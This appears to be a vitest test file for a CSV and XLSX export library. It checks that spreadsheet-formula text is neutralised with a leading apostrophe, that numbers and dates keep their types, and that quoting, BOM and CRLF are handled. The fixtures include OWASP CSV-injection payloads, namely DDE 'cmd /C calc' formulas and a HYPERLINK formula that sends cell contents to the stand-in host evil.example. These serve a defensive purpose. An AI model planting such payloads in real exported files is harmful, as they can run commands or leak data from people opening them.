/**
 * The one table writer (src/lib/tables/): the neutralising rule on OWASP's CSV-injection payloads, numbers that stay
 * numbers (a negative number too), dates, CSV quoting, BOM and CRLF; and the XLSX helper read back with exceljs.
 */
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { cellText, csvField, dateText, neutralise, toCsv, wallClock } from '../../src/lib/tables/csv.ts';
import { addRows, xlsxValue } from '../../src/lib/tables/xlsx.ts';

/** Payloads from OWASP's "CSV Injection" page (and its DDE examples): each starts with = + - @ TAB or CR. */
const OWASP = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for details")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `=DDE("cmd";"/C calc";"!A0")A0`,
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  '-1',
  '+86 138 0000 0000',
];

describe('neutralise', () => {
  test.each(OWASP)('%j gets a leading apostrophe', (payload) => {
    expect(neutralise(payload)).toBe(`'${payload}`);
  });
  test.each(['王芳', '13812345678', 'a=b', 'x+1', 'mail@example.test', ' =1', "'=1", ''])(
    '%j is left alone',
    (text) => expect(neutralise(text)).toBe(text),
  );
  test('applying it twice changes nothing more', () => {
    for (const p of OWASP) expect(neutralise(neutralise(p))).toBe(neutralise(p));
  });
});

describe('cells', () => {
  test('numbers are numbers, never neutralised; the same characters as text are', () => {
    expect([-5, -0.5, 0, 3.25, 1e21].map(cellText)).toEqual(['-5', '-0.5', '0', '3.25', '1e+21']);
    expect(cellText('-5')).toBe("'-5");
    expect([Number.NaN, Number.POSITIVE_INFINITY].map(cellText)).toEqual(['', '']);
  });
  test('empty cells', () => {
    expect([cellText(null), cellText(undefined), cellText('')]).toEqual(['', '', '']);
  });
  test('dates: their wall-clock text, seconds only when present', () => {
    expect(dateText(new Date(Date.UTC(2026, 5, 1)))).toBe('2026-06-01');
    expect(dateText(new Date(Date.UTC(2026, 5, 1, 9, 30)))).toBe('2026-06-01 09:30');
    expect(dateText(new Date(Date.UTC(2026, 5, 1, 9, 30, 7)))).toBe('2026-06-01 09:30:07');
    // 01:30 UTC is 09:30 in Beijing; 20:00 UTC on 31 May is 04:00 on 1 June there.
    expect(cellText(wallClock('2026-06-01T01:30:00Z', 480))).toBe('2026-06-01 09:30');
    expect(cellText(wallClock('2026-05-31T20:00:00.123456+00:00', 480))).toBe('2026-06-01 04:00');
    expect(cellText(new Date(Number.NaN))).toBe('');
  });
});

describe('CSV', () => {
  test('quotes fields with commas, quotes, CR or LF; doubles quotes; neutralises before quoting', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvField(-12)).toBe('-12');
    expect(csvField('plain')).toBe('plain');
  });
  test('a file: UTF-8 BOM, header, CRLF after every line', () => {
    expect(
      toCsv(
        ['姓名', '人数'],
        [
          ['=cmd|"/c calc"!A1', -2],
          ['a,b', null],
        ],
      ),
    ).toBe('\uFEFF姓名,人数\r\n"\'=cmd|""/c calc""!A1",-2\r\n"a,b",\r\n');
    expect(toCsv([], [])).toBe('\uFEFF\r\n');
  });
  test('a CSV parser reads every payload back as the neutralised text, every number as it was', () => {
    const csv = toCsv(
      ['payload', 'n'],
      OWASP.map((p, i) => [p, -i]),
    );
    const rows: string[][] = parseCsv(csv, { bom: true, relax_quotes: false });
    expect(rows[0]).toEqual(['payload', 'n']);
    expect(rows.slice(1)).toEqual(OWASP.map((p, i) => [`'${p}`, String(-i)]));
  });
});

describe('XLSX', () => {
  test('typed cells: numbers as numbers, dates as dates, text neutralised, empty as empty', async () => {
    expect([xlsxValue(-5), xlsxValue('-5'), xlsxValue(null), xlsxValue(Number.NaN)]).toEqual([
      -5,
      "'-5",
      null,
      null,
    ]);
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('t');
    const at = new Date(Date.UTC(2026, 5, 1, 9, 30));
    const day = new Date(Date.UTC(2026, 5, 1));
    addRows(sheet, [
      ['name', 'n', 'at', 'day', 'empty'],
      ['=HYPERLINK("http://evil.example")', -3.5, at, day, null],
    ]);
    const again = new ExcelJS.Workbook();
    await again.xlsx.load(await book.xlsx.writeBuffer());
    const row = again.getWorksheet('t')!.getRow(2);
    expect(row.getCell(1).value).toBe(`'=HYPERLINK("http://evil.example")`);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(2).value).toBe(-3.5);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(3).type).toBe(ExcelJS.ValueType.Date);
    expect((row.getCell(3).value as Date).getTime()).toBe(at.getTime());
    expect(row.getCell(3).numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(row.getCell(4).numFmt).toBe('yyyy-mm-dd');
    expect(row.getCell(5).value).toBeNull();
  });
});
